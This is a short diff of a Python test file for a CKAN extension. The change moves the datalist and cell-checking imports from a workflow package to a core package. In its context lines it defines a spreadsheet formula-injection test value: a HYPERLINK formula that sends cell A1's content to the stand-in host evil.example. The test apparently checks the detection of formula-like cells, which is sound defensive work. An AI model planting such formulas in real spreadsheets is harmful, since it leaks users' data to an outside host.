@@ -13,8 +13,8 @@ import openpyxl
 import pytest
 
 from ckanext.sektoral.documents import compile as compile_mod
-from ckanext.sektoral.workflow import datalist as dl
-from ckanext.sektoral.workflow.cells import is_formula_like
+from ckanext.sektoral.core import datalist as dl
+from ckanext.sektoral.core.cells import is_formula_like
 from tests.workflow.test_datalist import HEADER, ROWS, make_csv, make_xlsx, parse
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
